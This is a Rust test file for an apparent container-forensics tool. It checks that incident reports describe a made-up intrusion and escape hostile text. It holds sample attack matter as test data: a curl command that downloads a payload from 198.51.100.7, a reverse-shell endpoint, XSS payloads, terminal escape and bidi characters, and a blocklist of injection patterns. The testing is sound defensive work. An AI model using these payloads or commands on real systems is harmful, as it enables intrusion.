//! The report on the made-up incident, and on one whose every text attacks the page.

mod support;

use std::os::unix::fs::FileExt as _;
use support::{incident, open, wait};
use taffrail_query::report::{Note, Report};
use taffrail_trace::container::{Setup, SetupMount};
use taffrail_trace::event::Severity;
use taffrail_trace::fixture::{self, HOSTILE};
use taffrail_trace::manifest::Joined;
use taffrail_trace::schema::{FILE, FINDING, Kind, STATE_SOCKET, Table};
use taffrail_trace::table::{Cell, Tables};
use taffrail_trace::{bundle, schema};

/// What a page, a terminal or a Markdown reader might take for its own.
const EVIL: &str = "</code><script>alert(1)</script><img src=x onerror=alert(1)>\u{1b}[31m\u{202e}\u{200b}`x`|](javascript:x)\r\n# h\u{9b}2J";

fn report() -> Report {
    let (_dir, session) = incident();
    wait(Report::of(&session)).expect("a report")
}

#[test]
fn the_page_tells_the_incident() {
    let page = report().html();
    for told in [
        "reverse_shell",
        "a shell has a network connection as its standard input",
        "curl -so /tmp/.part http://198.51.100.7/x",
        "198.51.100.7:4444",
        "beacon.example",
        "/var/tmp/.c/log",
        "signal 9",
    ] {
        assert!(page.contains(told), "{told}");
    }
    assert!(page.contains("3 events"), "what is missing is in the summary");
    assert!(page.contains(&"ab".repeat(32)), "the implant's digest is an indicator");
}

#[test]
fn the_page_needs_nothing_and_runs_nothing() {
    let page = report().html();
    assert!(page.contains("default-src 'none'"));
    for forbidden in
        ["<script", "javascript:", "src=", "href=", "url(", "@import", "<link", "<iframe", "<img", "onload"]
    {
        assert!(!page.contains(forbidden), "{forbidden}");
    }
}

#[test]
fn the_branch_that_a_rule_named_is_marked_and_its_neighbours_are_not() {
    let page = report().html();
    let process = |command: &str| {
        let at = page.find("class=\"tree\"").expect("a tree");
        let at = at + page[at..].find(command).unwrap_or_else(|| panic!("{command} is not in the tree"));
        let begin = page[..at].rfind("<div class=\"process").expect("a process");
        page[begin..at].split('"').nth(1).expect("a class").to_owned()
    };
    assert_eq!(process("<code class=\"hostile\">/tmp/.x<"), "process hostile");
    assert_eq!(process("httpd -f -p 8080"), "process led");
    assert_eq!(process("dockerd -H fd://"), "process led");
}

#[test]
fn a_report_made_before_the_bundle_has_its_name_tells_of_it_by_that_name() {
    let page = report().named("web-1.evidence.zip").html();
    assert!(page.contains("taffrail verify web-1.evidence.zip"), "as the commands have it");
}

#[test]
fn a_report_made_while_the_bundle_is_sealed_says_nothing_of_its_seal() {
    let (dir, session) = incident();
    let bundle = &session.bundles()[0];
    let tables = bundle.members().iter().filter(|(name, _)| name.starts_with("events/"));
    let members: Vec<(&str, Vec<u8>)> = tables
        .map(|(name, member)| {
            let mut bytes = vec![0; member.len as usize];
            bundle.file().read_exact_at(&mut bytes, member.offset).expect("its bytes");
            (name.as_str(), bytes)
        })
        .collect();
    let unsealed = support::crafted(dir.path(), &members);
    let page = wait(Report::of(&open(&[unsealed]).expect("a session"))).expect("a report").html();
    assert!(page.contains("beacon.example") && !page.contains("When this report was made"));
    assert!(report().html().contains("every member of the bundle had the digest"));
}

#[test]
fn the_markdown_tells_the_same() {
    let text = report().markdown();
    for told in [
        "# Evidence: `web`",
        "## What happened",
        "**`/tmp/.x`**",
        "198.51.100.7:4444",
        "beacon.example",
        "taffrail verify",
    ] {
        assert!(text.contains(told), "{told}\n{text}");
    }
}

#[test]
fn the_container_as_it_was_at_the_trigger_is_told_with_what_the_rules_named_first() {
    let (_dir, session) = incident();
    let report = wait(Report::of(&session)).expect("a report");
    let (page, text) = (report.html(), report.markdown());
    for titled in
        ["As it was at the trigger", "Processes at the trigger", "Sockets at the trigger", "Mounts at the trigger"]
    {
        assert!(page.contains(titled) && text.contains(titled), "{titled}\n{text}");
    }
    let lines = |of: &str| -> Vec<&str> {
        let table = text.split(of).nth(1).unwrap_or_default().trim_start();
        table.lines().take_while(|line| line.starts_with('|')).skip(2).collect()
    };
    let counted = |table: &str| support::rows(&session, &format!("SELECT count(*) FROM {table}"));
    for (of, table) in [("Processes at the trigger:", "state_process"), ("Sockets at the trigger:", "state_socket")] {
        assert_eq!(counted(table), [lines(of).len().to_string()], "all of {table}, where they are few");
    }
    assert!(
        lines("Processes at the trigger:")[0].contains("(deleted)"),
        "the shell that hangs on a connection\n{text}"
    );
    assert!(lines("Sockets at the trigger:").iter().any(|line| line.contains("LISTEN") && line.contains(":8080")));
    // A bundle of a format that had none says nothing of it.
    let old = format!("{}/tests/old/format-1.evidence.zip", env!("CARGO_MANIFEST_DIR"));
    let old = wait(Report::of(&open(&[old.into()]).expect("a session"))).expect("a report");
    assert!(!old.html().contains("As it was at the trigger"));
}

#[test]
fn of_very_many_sockets_a_few_are_told_and_the_rest_is_counted() {
    let dir = tempfile::tempdir().expect("a directory");
    let (manifest, _) = fixture::incident();
    let mut tables = Tables::default();
    for index in 0..5_000_u16 {
        let state = if index == 4_321 { "LISTEN" } else { "ESTABLISHED" };
        let cells: Vec<Cell<'_>> = STATE_SOCKET
            .all_columns()
            .map(|column| match column.name {
                "time" => Cell::Time(1_773_478_810_000_000_000),
                "state" => Cell::Text(state),
                "local_port" => Cell::U16(index),
                "owners" | "network_ns" => Cell::U32(1),
                "doubtful" => Cell::Bool(false),
                _ if column.nullable => Cell::Null,
                _ => Cell::Text("tcp"),
            })
            .collect();
        tables.of(&STATE_SOCKET).expect("a table").push(&cells).expect("a row");
    }
    let path = dir.path().join("many.evidence.zip");
    bundle::write(&path, &manifest, tables).expect("a bundle");
    let page = wait(Report::of(&open(&[path]).expect("a session"))).expect("a report").html();
    let first = page.find("ESTABLISHED").expect("sockets");
    assert!(page[..first].contains("LISTEN"), "what listens comes first");
    assert!(page.contains("and 4\u{202f}988 more sockets: <code>SELECT * FROM state_socket"), "{page}");
}

#[test]
fn nothing_of_a_trace_reaches_a_page_as_anything_but_text() {
    let dir = tempfile::tempdir().expect("a directory");
    let (mut manifest, _) = fixture::incident();
    for text in [
        &mut manifest.container.name,
        &mut manifest.container.id,
        &mut manifest.host.hostname,
        &mut manifest.host.kernel,
        &mut manifest.host.arch,
        &mut manifest.trigger.reason,
        &mut manifest.trigger.rule,
        &mut manifest.tool,
        &mut manifest.id,
    ] {
        *text = EVIL.to_owned();
    }
    manifest.container.image = Some(EVIL.to_owned());
    manifest.container.image_digest = Some(EVIL.to_owned());
    manifest.hooks[1].name = EVIL.to_owned();
    manifest.hooks[1].state = EVIL.to_owned();
    manifest.hooks[1].reason = Some(EVIL.to_owned());
    let list = vec![EVIL.to_owned()];
    let mut tables = Tables::default();
    for table in schema::TABLES {
        // Several of each, so that every list of the report has its row.
        for (op, direction) in [
            ("connect", "typed"),
            ("accept", "printed"),
            ("create", "typed"),
            ("rename", "printed"),
            ("query", "typed"),
        ] {
            tables.of(table).expect("a table").push(&evil(table, op, direction, &list)).expect("a row");
        }
    }
    let path = dir.path().join("<title><script>.evidence.zip");
    bundle::write(&path, &manifest, tables).expect("a bundle");
    let session = open(&[path]).expect("a session");
    let report = wait(Report::of(&session)).expect("a report");

    let page = report.html();
    assert!(page.contains("&lt;script&gt;alert(1)"), "the texts are there, as texts");
    for forbidden in ["<script", "<img", "</code><script", "\u{1b}", "\u{202e}", "\u{200b}", "\u{9b}", "\r"] {
        assert!(!page.contains(forbidden), "{forbidden:?}");
    }
    let opened = page.matches("<code").count();
    assert_eq!(opened, page.matches("</code>").count(), "no text closes what it stands in");

    let text = report.markdown();
    assert!(!text.chars().any(|ch| ch.is_control() && ch != '\n'), "no control character");
    assert!(!text.contains('\u{202e}') && !text.contains('\u{200b}'));
    for line in outside_blocks(&text) {
        assert!(!line.starts_with("# h"), "{line}");
        assert!(!outside_spans(line).contains('<'), "{line}");
    }
}

/// The lines of a Markdown text that are in none of its code blocks.
fn outside_blocks(text: &str) -> Vec<&str> {
    let (mut outside, mut fence) = (Vec::new(), 0);
    for line in text.lines() {
        let ticks = line.len() - line.trim_start_matches('`').len();
        match fence {
            0 if ticks >= 3 => fence = ticks,
            0 => outside.push(line),
            open if ticks >= open && ticks == line.len() => fence = 0,
            _ => {}
        }
    }
    assert_eq!(fence, 0, "every block ends");
    outside
}

/// A line without its code spans, whatever the length of their fences.
fn outside_spans(line: &str) -> String {
    let (mut out, mut rest) = (String::new(), line);
    while let Some(at) = rest.find('`') {
        out.push_str(&rest[..at]);
        let run = |text: &str| text.len() - text.trim_start_matches('`').len();
        let fence = run(&rest[at..]);
        let after = &rest[at + fence..];
        let (mut end, mut from) = (None, 0);
        while let Some(place) = after[from..].find('`').map(|place| from + place) {
            let length = run(&after[place..]);
            if length == fence {
                end = Some(place + length);
                break;
            }
            from = place + length;
        }
        rest = end.map_or("", |end| &after[end..]);
    }
    out + rest
}

fn evil<'a>(table: &Table, op: &'a str, direction: &'a str, list: &'a [String]) -> Vec<Cell<'a>> {
    let time = 1_773_478_810_000_000_000;
    table
        .all_columns()
        .map(|column| match column.name {
            "op" => Cell::Text(if table.name == "file" && op == "connect" { "io" } else { op }),
            "direction" if table.name == "terminal" => Cell::Text(direction),
            "origin" => Cell::Text("exec"),
            "severity" => Cell::Text("critical"),
            "exec_id" | "process_id" | "parent_exec_id" => Cell::U64(7),
            _ => match column.kind {
                Kind::Text => Cell::Text(EVIL),
                Kind::TextList => Cell::TextList(list),
                Kind::Time => Cell::Time(time),
                Kind::Bool => Cell::Bool(true),
                Kind::U16 => Cell::U16(9),
                Kind::U32 => Cell::U32(9),
                Kind::U64 => Cell::U64(9),
                Kind::I32 => Cell::I32(0),
                Kind::I64 => Cell::I64(0),
                Kind::Binary => Cell::Binary(HOSTILE.as_bytes()),
            },
        })
        .collect()
}

#[test]
fn a_bundle_without_findings_or_events_has_a_report() {
    let dir = tempfile::tempdir().expect("a directory");
    let (mut manifest, _) = fixture::incident();
    manifest.trigger.rule = "manual".to_owned();
    let path = dir.path().join("quiet.evidence.zip");
    bundle::write(&path, &manifest, Tables::default()).expect("a bundle");
    let report = wait(Report::of(&open(&[path]).expect("a session"))).expect("a report");
    assert!(report.html().contains("a person asked for the evidence"));
    assert!(report.markdown().contains("nothing that is known of"));
}

#[test]
fn what_was_worse_than_the_trigger_is_told_beside_it_as_text() {
    let dir = tempfile::tempdir().expect("a directory");
    let (mut manifest, _) = fixture::incident();
    let time_ns = manifest.trigger.time_ns + 1_000_000_000;
    manifest.most_severe = Some(Joined { rule: "Escape <script>".to_owned(), severity: Severity::Critical, time_ns });
    let path = dir.path().join("worse.evidence.zip");
    bundle::write(&path, &manifest, Tables::default()).expect("a bundle");
    let report = wait(Report::of(&open(&[path]).expect("a session"))).expect("a report");
    for text in [report.html(), report.markdown()] {
        assert!(text.contains("The most severe that followed is rule"), "{text}");
        assert!(text.contains(", critical, at "), "{text}");
    }
    assert!(!report.html().contains("<script>"));
}

#[test]
fn of_evidence_that_a_person_asked_for_the_most_severe_finding_is_told() {
    let sample = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("../sample-traces/theft-and-scan.evidence.zip");
    let report = wait(Report::of(&open(&[sample]).expect("a session"))).expect("a report");
    let text = report.markdown();
    let told = "The most severe that rules found is `Credentials read, then a connection`, critical, at ";
    assert!(text.contains(told), "{text}");
}

#[test]
fn a_report_of_very_many_events_stays_small_and_says_what_it_left_out() {
    let dir = tempfile::tempdir().expect("a directory");
    let (manifest, _) = fixture::incident();
    let mut tables = Tables::default();
    for index in 0..20_000_u64 {
        let text = format!("/srv/{index}");
        let cells: Vec<Cell<'_>> = FILE
            .all_columns()
            .map(|column| match column.name {
                "time" => Cell::Time(1_773_478_810_000_000_000 + index.cast_signed()),
                "op" => Cell::Text("create"),
                "path" => Cell::Text(&text),
                "exec_id" => Cell::U64(index),
                "container_id" | "container_name" | "path_source" | "flags" => Cell::Text("web"),
                "other_mounts" | "made_executable" => Cell::Bool(false),
                "result" => Cell::I32(0),
                _ => Cell::Null,
            })
            .collect();
        tables.of(&FILE).expect("a table").push(&cells).expect("a row");
    }
    let path = dir.path().join("many.evidence.zip");
    bundle::write(&path, &manifest, tables).expect("a bundle");
    let page = wait(Report::of(&open(&[path]).expect("a session"))).expect("a report").html();
    assert!(page.contains("and 19\u{202f}950 more changes"));
    assert!(page.len() < 100_000, "{}", page.len());
}

#[test]
fn what_people_wrote_down_is_in_the_report_and_attacks_nobody() {
    let note =
        Note { time_ns: 0, event: EVIL.to_owned(), text: format!("the way in\n{EVIL}"), tags: vec![EVIL.to_owned()] };
    assert!(!report().html().contains("Case notes") && !report().markdown().contains("Case notes"));
    let noted = report().noted(vec![note]);
    let page = noted.html();
    assert!(
        page.contains("Case notes")
            && page.contains("the way in")
            && !page.contains("<script")
            && !page.contains("<img")
    );
    let document = noted.markdown();
    assert!(document.contains("## Case notes") && document.contains("the way in"));
    for text in [page, document] {
        assert!(text.chars().all(|ch| ch == '\n' || !ch.is_control()), "{text}");
        assert!(!text.contains('\u{202e}') && !text.contains('\u{200b}'));
    }
}

#[test]
fn how_the_container_was_set_up_is_told_as_asked_for_and_as_the_kernel_has_it() {
    let dir = tempfile::tempdir().expect("a directory");
    let (mut manifest, _) = fixture::incident();
    let mount = SetupMount {
        kind: "bind".to_owned(),
        source: "/run/docker.sock".to_owned(),
        path: "/var/run/docker.sock".to_owned(),
        read_only: false,
    };
    manifest.container.setup = Some(Box::new(Setup {
        command: vec!["httpd".to_owned(), EVIL.to_owned()],
        privileged: true,
        capabilities_added: vec!["CAP_SYS_PTRACE".to_owned()],
        mounts: vec![mount],
        environment: vec!["API_KEY=***".to_owned(), EVIL.to_owned()],
        ..Setup::default()
    }));
    let path = dir.path().join("setup.evidence.zip");
    bundle::write(&path, &manifest, Tables::default()).expect("a bundle");
    let report = wait(Report::of(&open(&[path]).expect("a session"))).expect("a report");
    let (page, text) = (report.html(), report.markdown());
    for told in [
        "How it was set up",
        "it was given everything that the host has",
        "/run/docker.sock as /var/run/docker.sock, writable",
        "CAP_SYS_PTRACE",
        "API_KEY=***",
    ] {
        assert!(page.contains(told) && text.contains(told), "{told}\n{text}");
    }
    assert!(!page.contains("<script") && !outside_blocks(&text).iter().any(|line| outside_spans(line).contains('<')));
    // What the kernel made of it is told by names, and so where no runtime told anything.
    manifest.container.setup = None;
    let init = manifest.state.init.as_mut().expect("the container's first process");
    init.capabilities_effective = Some("0000000000000400".to_owned());
    init.capabilities_bounding = Some("0000000000000401".to_owned());
    init.shares_with_host = vec!["pid".to_owned()];
    let path = dir.path().join("kernel.evidence.zip");
    bundle::write(&path, &manifest, Tables::default()).expect("a bundle");
    let text = wait(Report::of(&open(&[path]).expect("a session"))).expect("a report").markdown();
    assert!(text.contains("`cap_net_bind_service`; can ever have: `cap_chown, cap_net_bind_service`"), "{text}");
    assert!(text.contains("The host's own: `pid` namespaces"), "{text}");
}

#[test]
fn what_was_found_again_and_again_is_told_once_with_its_number() {
    let dir = tempfile::tempdir().expect("a directory");
    let (manifest, _) = fixture::incident();
    let mut tables = Tables::default();
    let list = vec!["network".to_owned(), "T1611".to_owned()];
    for at in 0..5 {
        let cells: Vec<Cell<'_>> = FINDING
            .all_columns()
            .map(|column| match column.name {
                "time" => Cell::Time(1_773_478_810_000_000_000 + at * 1_000_000_000),
                "rule" => Cell::Text("Socket used"),
                "message" => Cell::Text("Socket used (by=sh)"),
                "severity" => Cell::Text("warning"),
                "tags" | "techniques" => Cell::TextList(if column.name == "tags" { &list } else { &list[1..] }),
                _ if column.nullable => Cell::Null,
                _ => Cell::Text(""),
            })
            .collect();
        tables.of(&FINDING).expect("a table").push(&cells).expect("a row");
    }
    let path = dir.path().join("again.evidence.zip");
    bundle::write(&path, &manifest, tables).expect("a bundle");
    let report = wait(Report::of(&open(&[path]).expect("a session"))).expect("a report");
    let (page, text) = (report.html(), report.markdown());
    let told = "(5 times until 09:00:14.000)";
    assert!(page.contains(told) && text.contains(told), "{text}");
    assert_eq!(text.matches("(by=sh)").count(), 1, "{text}");
    assert!(text.contains("Rule `Socket used` matched: `(by=sh)`"), "its name is said once: {text}");
    assert_eq!(page.matches(">T1611<").count(), 1, "a tag that is a technique is one tag");
}
